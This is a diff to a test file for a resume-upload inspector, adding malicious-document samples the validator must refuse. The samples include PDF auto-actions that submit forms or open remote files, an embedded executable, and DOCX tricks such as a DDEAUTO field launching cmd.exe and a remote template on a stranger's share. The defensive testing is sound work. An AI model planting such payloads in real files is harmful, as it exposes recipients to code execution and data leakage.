@@ -15,10 +15,14 @@ from hiring.resumes.inspection import EICAR, REASONS
 from tests.hiring.upload_files import (
     DOCUMENT,
     MACRO_TYPE,
+    attached,
+    attachment,
     docx,
     external,
+    field,
     locked_pdf,
     pdf,
+    related,
     screenshot_pdf,
     swelling_pdf,
 )
@@ -39,8 +43,39 @@ REFUSED = {
     "program": (b"MZ" + b"\x00" * 200, inspection.WRONG_KINDS[".exe"]),
     "old Word": (bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 600, inspection.WRONG_KINDS[".doc"]),
     "junk before the PDF": (b"<html>" + pdf(), inspection.WRONG_KINDS[".html"]),
-    "only a PDF header": (b"%PDF-1.7\n", REASONS["damaged"]),
-    "PDF cut in half": (pdf()[:200], REASONS["damaged"]),
+    "only a PDF header": (b"%PDF-1.7\n", REASONS["unfinished"]),
+    "PDF cut in half": (pdf()[:200], REASONS["unfinished"]),
+    "PDF without its end": (pdf().replace(b"%%EOF", b""), REASONS["unfinished"]),
+    "PDF that sends a form when opened": (
+        pdf(catalog="/OpenAction <</S /SubmitForm /F (https://a.example)>>"),
+        REASONS["sends"],
+    ),
+    "PDF that leads to a file of a stranger": (
+        pdf(catalog=r"/OpenAction <</S /GoToR /F (\\\\a.example\\x) /D [0 /Fit]>>"),
+        REASONS["sends"],
+    ),
+    "PDF that opens a page of the web": (
+        pdf(catalog="/OpenAction 10 0 R", extra="10 0 obj <</S /URI /URI (https://a.example)>> endobj"),
+        REASONS["sends"],
+    ),
+    "PDF with a program attached": (
+        pdf(catalog=attachment("run.exe"), extra=attached("MZ")),
+        REASONS["embedded"],
+    ),
+    "object outside the usual folder": (
+        docx({"word/_rels/document.xml.rels": related("oleObject", "media/a.bin")}),
+        REASONS["embedded"],
+    ),
+    "a web page taken in": (docx({"word/_rels/document.xml.rels": related("aFChunk", "a.html")}), REASONS["fetches"]),
+    "a field that starts a program": (
+        docx(document=field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')),
+        REASONS["fetches"],
+    ),
+    "a field that takes in a file": (docx(document=field(' INCLUDETEXT "https://a.example/x" ')), REASONS["fetches"]),
+    "template of a stranger's disk": (
+        docx(external("attachedTemplate", r"file:///\\a.example\x.dotx")),
+        REASONS["outside"],
+    ),
     "PDF without pages": (pdf(pages=0), REASONS["no_pages"]),
     "PDF of 101 pages": (pdf(pages=101), REASONS["many_pages"]),
     "PDF with a password": (locked_pdf("secret"), REASONS["password"]),
@@ -76,8 +111,18 @@ REFUSED = {
 ACCEPTED = {
     "PDF": (pdf(), "pdf"),
     "PDF that opens without asking": (locked_pdf(""), "pdf"),
-    "PDF with a web link": (pdf(catalog="/OpenAction <</S /URI /URI (https://a.example)>>"), "pdf"),
+    "PDF with a web link": (pdf(catalog="/Link <</S /URI /URI (https://a.example)>>"), "pdf"),
+    "PDF after a byte order mark": (b"\xef\xbb\xbf" + pdf(), "pdf"),
+    "PDF after a line end": (b"\r\n" + pdf(), "pdf"),
+    "PDF after a space": (b" " + pdf(), "pdf"),
+    "PDF of Europass": (pdf(catalog=attachment("attachment.xml"), extra=attached("<Candidate/>")), "pdf"),
     "DOCX": (docx(), "docx"),
+    "DOCX that names its author's template": (
+        docx(external("attachedTemplate", r"C:\Users\me\Templates\Resume.dotx")),
+        "docx",
+    ),
+    "DOCX with a template beside it": (docx(external("attachedTemplate", "Normal.dotm")), "docx"),
+    "DOCX with a page number": (docx(document=field(" PAGE ")), "docx"),
     "DOCX with a link": (docx(external("hyperlink")), "docx"),
 }
 
